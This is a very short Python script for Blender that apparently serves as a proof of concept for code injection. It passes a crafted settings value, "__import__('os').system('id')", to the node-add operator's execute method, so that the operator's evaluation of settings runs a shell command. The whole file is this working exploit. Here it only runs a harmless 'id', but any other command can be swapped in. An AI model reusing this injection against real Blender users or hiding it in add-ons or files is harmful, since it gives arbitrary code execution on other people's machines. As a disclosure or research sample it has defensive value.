import bpy
class S:
    name = 'location'
    value = "__import__('os').system('id')"
class P:
    settings = [S()]
    type = 'ShaderNodeMath'
    use_transform = False
bpy.types.NODE_OT_add_node.execute(P(), bpy.context)
